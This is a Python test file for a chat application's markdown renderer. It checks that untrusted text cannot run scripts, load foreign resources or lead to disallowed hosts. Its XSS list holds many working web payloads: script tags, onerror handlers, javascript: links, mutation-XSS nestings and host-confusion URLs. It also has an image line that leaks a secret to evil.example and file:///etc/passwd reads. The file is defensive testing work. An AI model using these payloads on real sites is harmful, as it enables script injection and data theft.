"""Markdown of untrusted text: what is shown, and that nothing a text can say runs, loads or leads away."""

from __future__ import annotations

import re
import threading
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatlab.render import markdown as markup
from chatlab.render.code import CODE_CSS, LANGUAGES, LONGEST_CODE
from chatlab.render.formulas import MATH_ATTRIBUTES, MATH_TAGS
from chatlab.render.markdown import (
    LONGEST_TEXT,
    MarkdownRenderer,
    PlainTable,
    as_typed,
    one_line,
    render,
    render_ahead,
)
from chatlab.render.parser import parser
from chatlab.words import words_of

ALLOWED = ("ok.example", "*.sub.example", "port.example:8443")

ATTRIBUTES = {"class", "dir", "href", "src", "alt", "title", "rel", "start", "style", "referrerpolicy"}
ATTRIBUTES |= {"target", "type"} | MATH_ATTRIBUTES
TRUSTED = MarkdownRenderer(("ok.example", "*.sub.example", "port.example:8443"))


class Seen(HTMLParser):
    """What a browser would be told by a fragment."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


def safe(fragment: str, allowed: tuple[str, ...] = ()) -> Seen:
    """The fragment as a browser sees it, once it is certain to be harmless."""
    seen = Seen(fragment)
    assert set(seen.tags) <= markup._TAGS | MATH_TAGS
    hosts = tuple(host.removeprefix("*.").partition(":")[0] for host in allowed)
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES, (tag, name)
        assert name != "dir" or value == "auto"
        if name == "href":
            found = re.match(r"https?://([^/?#:]+)|mailto:", value, re.I)
            assert tag == "a" and found
            assert found[1] is None or found[1].endswith(hosts or ("none",)) or found[1] in seen.text
            assert ("a", "rel", "noopener noreferrer nofollow") in seen.attributes
            assert ("a", "target", "_blank") in seen.attributes
        if name == "src":
            found = re.match(r"https?://([^/?#:]+)|data:image/(png|jpeg|gif|webp);base64,", value, re.I)
            assert tag == "img" and found and (found[1] is None or found[1].endswith(hosts or ("none",)))
        if name == "target":
            assert (tag, value) == ("a", "_blank")
        if name == "type":
            assert (tag, value) == ("button", "button")
        if name == "style":
            assert re.fullmatch(r"text-align: ?(left|right|center);?", value)
    return seen


XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<!-- <script> --><math><mtext></script><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<base href=https://evil.example>",
    "<a href='https://evil.example/'>x</a><a href='/logout'>y</a>",
    "<p><img src='https://evil.example/p.png'><img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    "[x](https://evil.example\\@ok.example/)",
    "[x](https://ok.example\\@evil.example/)",
    "[x](https://ok.example@evil.example/)",
    "[x](https://ok.example.evil.example/)",
    "[x](https://evil.example#@ok.example/)",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](https:///evil.example)",
    "[x](https://ok.example%00.evil.example/)",
    "[x](https://evil.example/?.sub.example)",
    "[x](ftp://ok.example/)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ok.example/1)",
    "[x](#fragment)",
    "[x](/logout)",
    "![x](https://evil.example/leak?q=secret)",
    "![x](//evil.example/leak)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/png;base64,AAAA' onerror=alert(1) ')",
    '![" onerror=alert(1) "](data:image/png;base64,AAAA)',
    "![x](javascript:alert(1))",
    "![x](/file=/etc/passwd)",
    "![<script>alert(1)</script>](https://evil.example)",
    "[![x](https://evil.example/p)](https://evil.example/q)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\nx\n```",
    "~~~&quot;&gt;&lt;script&gt;\nx\n~~~",
    "`<script>alert(1)</script>`",
    r"\(\text{<script>alert(1)</script>}\)",
    r"\(\text{&lt;script&gt;alert(1)&lt;/script&gt;}\)",
    r"\(\text{&amp;lt;img src=x onerror=alert(1)&amp;gt;}\)",
    r"\(\text{</mtext></math><img src=x onerror=alert(1)>}\)",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\(\href{https://evil.example}{x}\)",
    r"\(\style{background:url(https://evil.example)}{x}\)",
    r"\(\class{x\" onclick=alert(1)}{x}\)",
    r"\(\color{red\" onclick=\"alert(1)}{x}\)",
    r"\(\unicode{x3c}script\unicode{x3e}\)",
    r"\(\unicode{3c;img src=x onerror=alert(1) x}\)",
    r"$$\begin{array}{l\" onclick=alert(1)} <b> \end{array}$$",
    r"\(\nosuch{<img src=x onerror=alert(1)>}\)",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "|<style>|\n|--|\n|</style><script>alert(1)</script>|",
    "\x00<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\ud83d<script>\ude00",
]


@pytest.mark.parametrize("allowed", [(), ALLOWED], ids=["no host", "hosts"])
@pytest.mark.parametrize("text", XSS)
def test_a_known_attack_is_harmless_text(text: str, allowed: tuple[str, ...]) -> None:
    seen = safe(render(text, allowed_hosts=allowed), allowed)
    assert not any("alert" in value for _, name, value in seen.attributes if name in ("href", "src", "style"))


PIECES = st.one_of(
    st.sampled_from(XSS),
    st.sampled_from(
        r"[ ]( ) ![ < > ` ``` $$ \( \) \[ \] | - * ** ~~ } { ^ _ \frac \text{ & \ # &lt; &#x3c;".split()  # noqa: SIM905
    ),
    st.sampled_from(["https://evil.example", "https://ok.example", "javascript:", "data:image/png;base64,"]),
    st.sampled_from(["\n", "\n\n", "> ", "- ", "\t", '"', "'", " "]),
    st.text(max_size=8),
)


@settings(max_examples=250, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join), st.sampled_from([(), ALLOWED]))
def test_no_text_at_all_gets_a_script_a_handler_or_a_foreign_load_through(
    text: str, allowed: tuple[str, ...]
) -> None:
    safe(render(text, allowed_hosts=allowed), allowed)


@pytest.mark.parametrize("text", XSS)
def test_each_of_the_two_defences_is_enough_alone(text: str) -> None:
    text = text.encode("utf-8", "replace").decode()
    cleaned = markup._cleaner(MarkdownRenderer()).clean(text)
    safe(cleaned + " ".join(re.findall('href="([^"]*)', cleaned)))  # it does not say where links lead
    made = parser().render(text, markup._environment(MarkdownRenderer()))
    safe(made.replace("<a href=", '<a target="_blank" rel="noopener noreferrer nofollow" href='))


def test_everyday_markdown_is_set() -> None:
    made = render(
        "# Title\n\nOne *two* **three** ~~four~~ `five`\nsix\n\n- a\n- b\n\n3. c\n\n> d\n\n---\n\n"
        "| x | y |\n|:--|--:|\n| 1 | 2 |\n"
    )
    for piece in (
        '<h1 dir="auto">Title</h1>',
        "<em>two</em> <strong>three</strong> <s>four</s> <code>five</code><br>\nsix",
        "<li>a</li>",
        '<ol start="3" dir="auto">',
        '<blockquote dir="auto">',
        "<hr>",
        '<td style="text-align:right">2</td>',
    ):
        assert piece in made


def test_html_is_shown_as_it_was_written() -> None:
    assert safe(render("a <b>c</b> &amp; d")).text == "a <b>c</b> & d\n"


def test_code_is_highlighted_by_its_language_and_keeps_every_character() -> None:
    code = "\n  def f():\n\treturn '<b>'  # äöü\n\n"
    seen = safe(render(f"```python title\n{code}```"))
    assert ("span", "class", "k") in seen.attributes
    assert ("pre", "class", "code") in seen.attributes
    assert seen.text == code + "\n"
    assert ".code .k " in CODE_CSS and "light-dark(" in CODE_CSS


@pytest.mark.parametrize("language", ["", "nosuchlanguage", "python"])
def test_code_of_no_known_language_or_of_great_length_is_plain(language: str) -> None:
    code = "x = 1\n" * (LONGEST_CODE if language == "python" else 1)
    seen = safe(render(f"```{language}\n{code}```"))
    assert "span" not in seen.tags and seen.text.strip() == code.strip()


def test_every_language_that_may_be_highlighted_is_known_to_pygments() -> None:
    for language in LANGUAGES:
        assert safe(render(f"```{language}\nx\n```")).text.strip() == "x"


APART = 'target="_blank" rel="noopener noreferrer nofollow"'


def test_a_link_to_an_allowed_host_is_a_link_and_another_shows_where_it_leads() -> None:
    made = render("[a](https://ok.example/x?y=1&z=2) [b](https://evil.example/q)", allowed_hosts=ALLOWED)
    assert (
        made == f'<p dir="auto"><a href="https://ok.example/x?y=1&amp;z=2" {APART}>a</a> '
        f'<a title="https://evil.example/q" {APART}>b</a>'
        f'<span class="host"> (<a href="https://evil.example/q" {APART}>evil.example</a>)</span></p>\n'
    )
    link = f'<a href="https://evil.example/q" {APART}>https://evil.example/q</a>'
    assert render("<https://evil.example/q>") == f'<p dir="auto">{link}</p>\n'
    assert render("(see https://evil.example/q).") == f'<p dir="auto">(see {link}).</p>\n'
    assert render("[a](https://user@evil.example)") == '<p dir="auto">a (https://user@evil.example)</p>\n'


@pytest.mark.parametrize(
    ("address", "may"),
    [
        ("https://ok.example", True),
        ("HTTP://OK.example/a b".replace(" ", "%20"), True),
        ("https://ok.example:444/", True),
        ("https://a.sub.example/", True),
        ("https://sub.example/", False),
        ("https://.sub.example/", False),
        ("https://port.example:8443/", True),
        ("https://port.example/", False),
        ("mailto:a@b.example", True),
        ("https://user@ok.example/", False),
        ("https://ok.example\n", False),
    ],
)
def test_hosts_are_allowed_by_name_by_port_or_below_a_name(address: str, may: bool) -> None:
    assert (TRUSTED.is_allowed(address) or address.startswith("mailto:")) is may
    if may:
        assert TRUSTED.may_lead_to(address)


def test_a_picture_is_shown_if_it_is_inline_or_from_an_allowed_host() -> None:
    made = render(
        '![a](data:image/png;base64,iVBO) ![b](https://ok.example/p.png "t") ![c](https://evil.example/p.png)',
        allowed_hosts=ALLOWED,
    )
    assert '<img src="data:image/png;base64,iVBO" alt="a"' in made
    assert '<img src="https://ok.example/p.png" alt="b" title="t"' in made
    address = "https://evil.example/p.png"
    assert f'[picture not loaded: c, <a href="{address}" {APART}>{address}</a>]' in made


def test_a_very_long_text_is_shown_as_it_is() -> None:
    text = "*a* <b>\n" * (LONGEST_TEXT // 8 + 1)
    seen = safe(render(text))
    assert seen.text == text and set(seen.tags) == {"pre", "code"}


async def test_a_long_text_is_rendered_once_and_beside_the_event_loop(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    threads: list[str] = []
    parse = MarkdownIt.render

    def noted(*args: Any) -> Any:
        threads.append(threading.current_thread().name)
        return parse(*args)

    monkeypatch.setattr(MarkdownIt, "render", noted)
    text = "*a* <b> of its own\n" * 2_000
    await render_ahead(["short", text, text])
    assert render(text) == render(text)
    assert [name.partition("_")[0] for name in threads] == ["rendering"]


def test_halves_of_a_character_that_a_stream_was_cut_between_are_shown_as_such() -> None:
    assert render("a\ud83d") == '<p dir="auto">a\ufffd</p>\n'
    assert render("\ud83d\ude00") == '<p dir="auto">\U0001f600</p>\n'


@pytest.mark.parametrize(
    ("text", "begins"),
    [
        ("مرحبا بالعالم، English", '<p dir="auto">'),
        ("# שלום", '<h1 dir="auto">'),
        ("- one\n- عربي", '<ul dir="auto">'),
        ("1. עברית", '<ol dir="auto">'),
        ("> שלום", '<blockquote dir="auto">'),
        ("| عربي |\n| --- |\n| a |", '<table dir="auto">'),
        ("left to right", '<p dir="auto">'),
    ],
)
def test_a_block_reads_from_the_side_that_its_own_letters_begin_at(text: str, begins: str) -> None:
    assert render(text).startswith(begins)
    assert "dir" not in render("```\nשלום\n```")


def test_a_block_of_code_has_its_language_and_buttons_that_are_named_in_the_page_s_language() -> None:
    made = MarkdownRenderer(words=words_of("de")).render("```mermaid\ngraph TD\n```")
    assert '<pre class="code" title="mermaid"><code>graph TD\n</code></pre>' in made
    assert '<button class="copy" title="Code kopieren" type="button"></button>' in made


def test_files_that_the_page_s_server_stores_are_shown_only_on_its_pages() -> None:
    text = f"![a](-/files/{'ab' * 32}) [b](-/files/{'cd' * 32}) ![c](-/files/other)"
    made = MarkdownRenderer(own_files=True).render(text)
    assert f'<img src="-/files/{"ab" * 32}" alt="a"' in made and f'<a href="-/files/{"cd" * 32}"' in made
    assert "[picture not loaded: c, -/files/other]" in made
    assert "src=" not in render(text) and "href=" not in render(text)


def test_what_a_person_typed_is_shown_as_it_is() -> None:
    text = "  *a* <b>\n\n# مرحبا &amp; `c`  "
    made = as_typed(text)
    assert Seen(made).text == text.replace("\n", "") and set(Seen(made).tags) == {"div", "br"}
    assert made.count('<div dir="auto">') == 3
    lines = "a < b\n" * LONGEST_TEXT
    long = as_typed(lines)
    assert Seen(long).text == lines and len(long) < 2 * len(lines)


def test_foreign_text_of_a_title_is_one_line_in_which_nothing_is_markup() -> None:
    assert safe(render(one_line("# <b> *a*\n[x](y) $z$"))).text == "# <b> *a* [x](y) $z$\n"


SIGNS = "ab 1.,(%&<>\"'`*_[]|#~$\\:/-@\n\t\xa0\x07é"
CELLS = st.text(st.sampled_from(SIGNS) | st.characters(codec="utf-8"), max_size=12)


@settings(deadline=None)
@example([("", "- \x1b")])
@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=4))
def test_a_table_of_plain_text_is_what_its_markdown_is_and_is_not_read(rows: list[tuple[str, str]]) -> None:
    rows = [("Figure", "Value"), *rows, ("trace", "7 https://example.org/a_b and more")]
    table = PlainTable(rows)
    assert render(table) == render(str(table))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(MarkdownIt, "render", None)
        assert render(PlainTable([("Figure", "Value"), ("speed", "12 tokens/s <1>")])).count("<td>") == 2
